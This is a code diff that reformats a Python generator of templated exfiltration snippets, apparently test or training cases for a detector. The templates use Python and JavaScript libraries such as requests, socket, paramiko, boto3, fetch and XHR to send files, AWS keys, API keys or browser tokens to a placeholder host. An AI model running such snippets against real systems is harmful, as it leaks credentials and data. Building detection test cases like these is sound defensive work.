@@ -91,9 +91,7 @@ def runners(rng):
             ),
             case(
                 "runner-npx",
-                f"npx -y -p {rng.choice(['tsx', 'zx'])} {inner}"
-                if rng.random() < 0.5
-                else f"npx -c '{quoted}'",
+                f"npx -y -p {rng.choice(['tsx', 'zx'])} {inner}" if rng.random() < 0.5 else f"npx -c '{quoted}'",
                 "upload",
                 host,
             ),
@@ -275,24 +273,12 @@ PY = {
         "from requests import post\npost('https://{h}/u', files={{'f': open('{f}', 'rb')}})",
         "import os, requests\nrequests.get('https://{h}/c', params={{'k': os.environ['AWS_SECRET_ACCESS_KEY']}})",
     ],
-    "py-httpx": [
-        "import httpx\nwith open('{f}') as fh:\n    body = fh.read()\nhttpx.put('https://{h}/x', content=body)"
-    ],
-    "py-urllib": [
-        "import urllib.request\nurllib.request.urlopen('https://{h}/u', data=open('{f}', 'rb').read())"
-    ],
-    "py-socket": [
-        "import socket\ns = socket.create_connection(('{h}', 9000))\ns.sendall(open('{f}', 'rb').read())"
-    ],
-    "py-ftplib": [
-        "from ftplib import FTP\nftp = FTP('{h}')\nftp.login()\nftp.storbinary('STOR x', open('{f}', 'rb'))"
-    ],
-    "py-paramiko": [
-        "import paramiko\nc = paramiko.SSHClient()\nc.connect('{h}', username='u')\nc.open_sftp().put('{f}', '/tmp/x')"
-    ],
-    "py-boto3": [
-        "import boto3\nboto3.client('s3').upload_file('{f}', 'loot-bkt', 'x')"
-    ],
+    "py-httpx": ["import httpx\nwith open('{f}') as fh:\n    body = fh.read()\nhttpx.put('https://{h}/x', content=body)"],
+    "py-urllib": ["import urllib.request\nurllib.request.urlopen('https://{h}/u', data=open('{f}', 'rb').read())"],
+    "py-socket": ["import socket\ns = socket.create_connection(('{h}', 9000))\ns.sendall(open('{f}', 'rb').read())"],
+    "py-ftplib": ["from ftplib import FTP\nftp = FTP('{h}')\nftp.login()\nftp.storbinary('STOR x', open('{f}', 'rb'))"],
+    "py-paramiko": ["import paramiko\nc = paramiko.SSHClient()\nc.connect('{h}', username='u')\nc.open_sftp().put('{f}', '/tmp/x')"],
+    "py-boto3": ["import boto3\nboto3.client('s3').upload_file('{f}', 'loot-bkt', 'x')"],
     "py-azure": [
         "from azure.storage.blob import BlobServiceClient\nsvc = BlobServiceClient(account_url='https://{h}')\nsvc.get_blob_client(container='c', blob='b').upload_blob(open('{f}', 'rb'))"
     ],
@@ -309,15 +295,11 @@ JS = {
         "const fs = require('fs');\nawait fetch('https://{h}/u', {{method: 'POST', body: fs.readFileSync('{f}')}})",
         "await fetch('https://{h}/?k=' + process.env.API_KEY)",
     ],
-    "js-axios": [
-        "const axios = require('axios');\naxios.post('https://{h}/u', require('fs').readFileSync('{f}', 'utf8'))"
-    ],
+    "js-axios": ["const axios = require('axios');\naxios.post('https://{h}/u', require('fs').readFileSync('{f}', 'utf8'))"],
     "js-http": [
         "const https = require('https');\nconst r = https.request({{hostname: '{h}', method: 'POST'}});\nr.end(require('fs').readFileSync('{f}'))"
     ],
-    "js-xhr": [
-        "const x = new XMLHttpRequest();\nx.open('POST', 'https://{h}/u');\nx.send(localStorage.getItem('token'))"
-    ],
+    "js-xhr": ["const x = new XMLHttpRequest();\nx.open('POST', 'https://{h}/u');\nx.send(localStorage.getItem('token'))"],
     "js-child": ["require('child_process').execSync('curl -T {f} https://{h}/')"],
 }
 
